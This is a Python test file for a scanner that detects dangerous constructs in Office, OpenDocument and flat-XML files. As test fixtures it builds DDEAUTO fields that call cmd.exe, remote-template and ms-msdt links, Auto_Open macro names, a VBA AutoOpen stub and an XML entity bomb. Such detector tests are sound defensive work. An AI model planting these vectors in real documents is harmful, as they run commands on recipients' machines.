#!/usr/bin/python3
"""Office Open XML, OpenDocument and flat XML: what a part of a document says. Members are given one by one."""
import base64
import os
import sys
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from compound import compound, project
from documents import ask, clean, found, tap

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/"
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def part(xml, *rules, name="word/document.xml", within="", encoding="utf-8"):
    return found((DECLARATION + xml).encode(encoding), *rules, within=within, options=("-w", name))


def rels(kind, target, mode="External", base=TYPE):
    return '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' \
        '<Relationship Id="rId1" Type="%s%s" Target="%s" TargetMode="%s"/></Relationships>' % (
            base, kind, target, mode)


def body(xml):
    return '<w:document %s><w:body><w:p>%s</w:p></w:body></w:document>' % (W, xml)


# ---- binary parts (MS-XLSB) ----

def number(n):
    return bytes([n & 127]) if n < 128 else bytes([n & 127 | 128]) + number(n >> 7)


def records(*list_of):
    return b"".join(number(kind) + number(len(data)) + data for kind, data in list_of)


def wide(text):
    return len(text).to_bytes(4, "little") + text.encode("utf-16-le")


def link(kind, *strings):
    return records((360, kind.to_bytes(2, "little") + b"".join(map(wide, strings))), (577, b""), (588, b""))


def workbook_part(*names):
    return records((131, b""), (128, bytes(200)), *[(39, bytes(9) + wide(name) + bytes(8)) for name in names], (132, b""))


def test_binary_link():
    found(link(1, "cmd", "/c calc"), "dde", within='"cmd", "/c calc"', options=("-w", "xl/externalLinks/externalLink1.bin"))
    found(link(1, "cmd"), "dde", options=("-w", "x"))
    for ordinary in (link(0, "rId1"), link(2, "rId1", "Word.Document.8"), link(1, "cmd")[:9]):
        clean(ordinary, "-w", "xl/externalLinks/externalLink1.bin")


def test_binary_names():
    for name in ("_xlnm.Auto_Open", "Auto_Open", "auto_close1"):
        found(workbook_part("_xlnm.Print_Area", name), "macro_autorun", within=name, options=("-w", "xl/workbook.bin"))
    clean(workbook_part("_xlnm.Print_Area", "Automatic", "Auto_Loan"), "-w", "xl/workbook.bin")
    clean(workbook_part() + b"\xff" * 9, "-w", "xl/workbook.bin")
    # however many records stand before it
    found(records((131, b"")) + b"\0\0" * 1100000 + link(1, "cmd"), "dde", options=("-w", "xl/workbook.bin"))


# ---- relationships ----

@tap.cases("http://a.example/t.dotm", "https://198.51.100.1/x", "file://\\\\a.example\\x\\t.dotm",
           "\\\\a.example@80\\x.dotm", "HTTP://A.example/t", "mhtml:http://a.example/t!x")
def test_remote_template(target):
    part(rels("attachedTemplate", target), "remote_template", name="word/_rels/settings.xml.rels",
         within="a.example" if "a.example" in target else "")
    part(rels("attachedTemplate", target, base=STRICT), "remote_template")


@tap.cases("file:///C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", "Normal.dotm",
           "file:///\\\\server\\templates\\letter.dotx")
def test_local_template(target):
    part(rels("attachedTemplate", target))


@tap.cases("oleObject", "frame", "subDocument", "aFChunk")
def test_external_link(kind):
    part(rels(kind, "https://a.example/x.html!"), "external_link")
    part(rels(kind, "embeddings/oleObject1.bin", "Internal"))


@tap.cases("javascript:alert(1)", "ms-msdt:/id%20PCWDiagnostic", "mhtml:http://a.example/x", "search-ms:query=x",
           "vbscript:x", " java&#x0A;script:x", "JavaScript&#58;x")
def test_link_that_runs(target):
    part(rels("hyperlink", target), "external_link")


@tap.cases(("hyperlink", "https://a.example/"), ("hyperlink", "mailto:a@b.example"), ("hyperlink", "file:///C:\\x.pdf"),
           ("hyperlink", "\\\\files.a.example\\x.pdf"), ("image", "https://a.example/logo.png"),
           ("externalLinkPath", "https://a.sharepoint.example/b.xlsx"), ("oleObject", "file:///C:\\a.xlsx!Sheet1"),
           ("oleObject", "file:///\\\\server\\a.xlsx!Sheet1"), ("video", "https://video.example/1"))
def test_ordinary_relationship(case):
    part(rels(*case))


@tap.cases("javascript:toggleToc()", "javascript:void(0);", "javascript://", "javascript:;", "JavaScript:History.back()")
def test_link_copied_from_a_page(target):
    """A script that nothing of came along."""
    part(rels("hyperlink", target))
    part(body(field(run('HYPERLINK "%s"' % target))))
    part(rels("attachedTemplate", target), "remote_template")


@tap.cases("javascript:eval('x')", "javascript:a();b()", "javascript:x=1", "javascript:a(1)", "vbscript:a()")
def test_link_with_a_script(target):
    part(rels("hyperlink", target), "external_link")
    part(body(field(run('HYPERLINK "%s"' % target))), "external_link")


def test_picture_on_a_share():
    part(rels("image", "file://///a.example/x.png"), "external_link")


def test_other_spellings_of_xml():
    xml = rels("attachedTemplate", "http://a.example/t")
    part(xml, "remote_template", encoding="utf-16")
    part(xml.replace("Relationship ", "r:Relationship "), "remote_template")  # unbound prefix
    part(xml.replace("http", "&#104;ttp"), "remote_template")
    part(xml.replace("</Relationships>", ""), "remote_template")
    part(xml.replace("<Relationship ", "<Relationships><x y=z><Relationship "), "remote_template")
    entity = '<!DOCTYPE x [<!ENTITY e "http://a.example/">]>' + xml.replace("http://a.example/", "&e;")
    part(entity, "remote_template")
    found(b"\xff\xfe" + xml.encode("utf-16-le"), "remote_template", options=("-w", "x.rels"))


# ---- fields ----

def run(text):
    return "<w:r><w:instrText>%s</w:instrText></w:r>" % text


def field(*instruction, result="x"):
    char = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    return char % "begin" + "".join(instruction) + char % "separate" + \
        "<w:r><w:t>%s</w:t></w:r>" % result + char % "end"


def test_dde():
    part(body(field(run(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))), "dde", within="cmd.exe")
    part(body(field(run("dde")+ run(" excel x"))), "dde")
    part(body('<w:fldSimple w:instr=\' DDE cmd "/c x"\'/>'), "dde")


def test_dde_in_pieces():
    part(body(field(run("D"), run("DE"), "<w:r><w:rPr/></w:r>", run("AU"), run("TO "), run("x y"))), "dde")
    part(body(field(run(" "), run("DDEAUT"), run("O"), field(run("QUOTE 67 58")), run(" y"))), "dde")
    part(body(run("DDEAUTO x y")), "dde")  # without the characters round it
    part(body(field(run("IF 1=1 "), field(field(field(run("DDE a b")))))), "dde")
    part(body(field(run("<![CDATA[DDE]]> a b"))), "dde")
    part(body(field("<w:r><w:delInstrText>DDE a b</w:delInstrText></w:r>")), "dde")


@tap.cases('HYPERLINK "https://a.example/DDE"', "PAGE \\* MERGEFORMAT", 'INCLUDEPICTURE "https://a.example/x.png"',
           "REF _Ref1 \\h", "DDEX y", 'LINK Excel.Sheet.12 "C:\\\\x.xlsx" "S1" \\a', "MERGEFIELD Name", "MACROBUTTON NoMacro [click]",
           'TOC \\o "1-3"', "FORMTEXT")
def test_ordinary_fields(instruction):
    part(body(field(run(instruction))))


def test_text_about_dde_is_ordinary():
    part(body("<w:r><w:t>DDEAUTO cmd</w:t></w:r>" + field(run("PAGE"), result="DDE x y")))


def test_fields_that_load():
    part(body(field(run('INCLUDETEXT "http://a.example/x"'))), "external_link")
    part(body(field(run('LINK Word.Document.8 "http://a.example/x.rtf" "" \\a'))), "external_link")
    part(body(field(run('INCLUDEPICTURE "\\\\\\\\a.example\\\\x.png"'))), "external_link")


def test_deep_fields():
    part(body('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 5000 + run("DDE a b")), "dde")


# ---- Excel ----

@tap.cases('<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>',
           '<macrosheet/>',
           '<Types><Override PartName="/xl/x/y.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
           '<Types><Override PartName="/xl/x/y.bin" ContentType="application/vnd.ms-excel.intlmacrosheet"/></Types>')
def test_macro_sheet(xml):
    part(xml, "macro_xlm")


def test_macro_sheet_by_relationship():
    part(rels("xlMacrosheet", "macrosheets/sheet1.xml", "Internal",
              "http://schemas.microsoft.com/office/2006/relationships/"), "macro_xlm")


def test_auto_open():
    part('<workbook><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">M!$A$1</definedName>'
         '</definedNames></workbook>', "macro_autorun")


def test_ordinary_workbook():
    part('<workbook><sheets><sheet name="a" state="veryHidden"/></sheets><definedNames>'
         '<definedName name="_xlnm.Print_Area">S!$A$1</definedName><definedName name="Auto">1</definedName>'
         '</definedNames></workbook>')
    part('<Types><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
         'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')


def test_dde_link():
    part('<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>', "dde",
         within='"cmd", "/C calc"', name="xl/externalLinks/externalLink1.xml")
    part('<externalLink><externalBook/></externalLink>')


def test_web_query():
    query = '<connections><connection id="1" %s><webPr url="http://a.example/"/></connection></connections>'
    part(query % 'refreshOnLoad="1"', "external_link")
    part(query % "")


def test_control():
    part('<ax:ocx ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}" xmlns:ax="x"/>', "activex")
    part('<formControlPr objectType="CheckBox"/>')


def test_ribbon():
    part('<customUI onLoad="http://a.example/x.dotm!m"/>', "external_link")
    part('<customUI onLoad="Ribbon_Load"/>')


def test_button_that_starts_a_program():
    part('<a:hlinkClick xmlns:a="x" r:id="rId2" xmlns:r="y" action="ppaction://program"/>', "dde")
    part('<a:hlinkClick xmlns:a="x" r:id="rId2" xmlns:r="y" action="ppaction://hlinksldjump"/>')


# ---- flat XML ----

SOURCE = 'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nEnd Sub\r\n'


def macros():
    return compound({"VBA/" + n: s for n, s in project({"M": SOURCE}).items()})


def active_mime(content):
    return b"ActiveMime\0\0\1\xf0\4\0\0\0\xff\xff\xff\xff\0\0\7\xf0" + bytes(20) + zlib.compress(content)


def test_active_mime():
    found(active_mime(macros()), "macro", "macro_autorun")
    found(b"ActiveMime" + bytes(100), "cannot_inspect")


def test_word_2003():
    data = base64.encodebytes(active_mime(macros())).decode()
    xml = '<?mso-application progid="Word.Document"?><w:wordDocument %s w:macrosPresent="yes">' \
        '<w:docSuppData><w:binData w:name="editdata.mso">%s</w:binData></w:docSuppData></w:wordDocument>'
    found((DECLARATION + xml % (W, data)).encode(), "macro", "macro_autorun", options=("-n", "a.xml"))
    found((DECLARATION + '<w:wordDocument %s><w:docPr><w:attachedTemplate w:val="http://a.example/x.dot"/></w:docPr>'
           '</w:wordDocument>' % W).encode(), "remote_template")
    clean((DECLARATION + '<w:wordDocument %s><w:docPr><w:attachedTemplate w:val=""/></w:docPr><w:binData>%s</w:binData>'
           '</w:wordDocument>' % (W, base64.b64encode(b"GIF89a" + bytes(50)).decode())).encode())


def test_flat_opc():
    data = base64.b64encode(macros()).decode()
    report = part('<pkg:package xmlns:pkg="x"><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>%s</pkg:binaryData>'
                  '</pkg:part></pkg:package>' % data, "macro", "macro_autorun")
    assert any("vbaProject.bin" in f[1] for f in report.findings), report
    part('<pkg:package xmlns:pkg="x"><pkg:part><pkg:xmlData>%s</pkg:xmlData></pkg:part></pkg:package>'
         % rels("attachedTemplate", "http://a.example/x"), "remote_template")


def test_spreadsheet_2003():
    part('<Workbook xmlns:ss="s"><Cell ss:Formula="=cmd|\'/C calc\'!A0"/></Workbook>', "formula")
    part('<Workbook xmlns:ss="s"><Cell ss:Formula="=SUM(R[-1]C,1)"/></Workbook>')


# ---- OpenDocument ----

def test_basic():
    module = '<script:module xmlns:script="s" script:name="M" script:language="StarBasic">%s</script:module>'
    part(module % "REM  *****  BASIC  *****\n\nSub Main\nMsgBox 1\nEnd Sub", "macro", within="Main",
         name="Basic/Standard/Module1.xml")
    part(module % "REM  *****  BASIC  *****\n\n")


def listener(event, script):
    return '<office:event-listeners xmlns:office="o" xmlns:script="s" xmlns:xlink="x"><script:event-listener ' \
        'script:language="ooo:script" script:event-name="%s" xlink:href="%s"/></office:event-listeners>' % (event, script)


def test_events():
    script = "vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"
    part(listener("dom:load", script), "macro", "macro_autorun")
    part(listener("dom:mouseover", script), "macro", "macro_autorun")
    part(listener("form:performaction", script), "macro")


def test_events_of_the_program_are_ordinary():
    part(listener("office:new", "application:Template.Correspondence.Main"))
    part(listener("office:new", "vnd.sun.star.script:Template.X.Main?language=Basic&amp;location=application"))
    part(listener("dom:mouseover", "vnd.sun.star.script:../../x.py$f?language=Python&amp;location=application"),
         "macro", "macro_autorun")


def manifest(entry):
    return '<manifest:manifest xmlns:manifest="m">%s</manifest:manifest>' % entry


def test_manifest():
    part(manifest('<manifest:file-entry manifest:full-path="content.xml"/>'))
    part(manifest('<manifest:file-entry manifest:full-path="Scripts/"/>'))
    part(manifest('<manifest:file-entry manifest:full-path="Scripts/python/x.py"/>'), "macro")
    part(manifest('<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/>'
                  '</manifest:file-entry>'), "encrypted_document")


def test_opendocument_parts_from_elsewhere():
    part('<draw:floating-frame xmlns:draw="d" xmlns:xlink="x" xlink:href="http://a.example/"/>', "external_link")
    part('<text:section-source xmlns:text="d" xmlns:xlink="x" xlink:href="file://a.example/x"/>', "external_link")
    part('<text:a xmlns:text="d" xmlns:xlink="x" xlink:href="http://a.example/"/>')
    part('<office:dde-source xmlns:office="o" office:dde-application="cmd" office:dde-topic="/c x"/>', "dde")
    part('<draw:plugin xmlns:draw="d" draw:mime-type="a/b"/>', "embedded_object")
    part('<draw:applet xmlns:draw="d" draw:code="a"/>', "embedded_object")
    part('<plugin><groupId>a</groupId></plugin>')
    part('<table:table-cell xmlns:table="t" table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c x&quot;;&quot;y&quot;)"/>', "formula")
    part('<table:table-cell xmlns:table="t" table:formula="of:=SUM([.A1:.A9])"/>')


PLUGIN = '<draw:plugin xmlns:draw="d" xmlns:xlink="x" xlink:href="Media/1" draw:mime-type="%s"/>'


@tap.cases(PLUGIN % "application/x-shockwave-flash", '<draw:plugin xmlns:draw="d" xmlns:xlink="x" xlink:href="x.jar"/>',
           '<draw:applet xmlns:draw="d" draw:code="Run.class"/>', '<draw:applet xmlns:draw="d" draw:object="x"/>')
def test_plugin(xml):
    part(xml, "embedded_object")


@tap.cases(PLUGIN % "application/vnd.sun.star.media", PLUGIN % "video/mp4",
           '<project><plugin><groupId>a</groupId></plugin></project>', '<x:plugin xmlns:x="y" kind="chart"/>')
def test_ordinary_plugin(xml):
    part(xml)


# ---- Windows ----

def test_shortcuts():
    part('<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c x</DeepLink>'
         '</ApplicationInformation></SearchableContent></PCSettings>', "shortcut", within="cmd.exe")
    part('<libraryDescription><simpleLocation><url>\\\\a.example\\x</url></simpleLocation></libraryDescription>',
         "shortcut", within="a.example")
    part('<searchConnectorDescription/>', "shortcut")
    part('<sitemap><url>https://a.example/</url></sitemap>')


def test_scripts():
    part('<xsl:stylesheet xmlns:ms="m" xmlns:xsl="x"><ms:script language="JScript" implements-prefix="u">1</ms:script>'
         '</xsl:stylesheet>', "script")
    part('<scriptlet><registration/></scriptlet>', "script")


def test_message_in_place_is_left_alone():
    found(rels("attachedTemplate", "http://a.example/").encode(), options=("-b",))


def test_entity_bomb_ends():
    bomb = '<!DOCTYPE x [<!ENTITY a0 "DDE">' + "".join(
        '<!ENTITY a%d "&a%d;&a%d;">' % (i, i - 1, i - 1) for i in range(1, 90)) + "]><x>&a89;</x>"
    assert ask(bomb.encode()).microseconds < 2000000


if __name__ == "__main__":
    tap.main(globals())
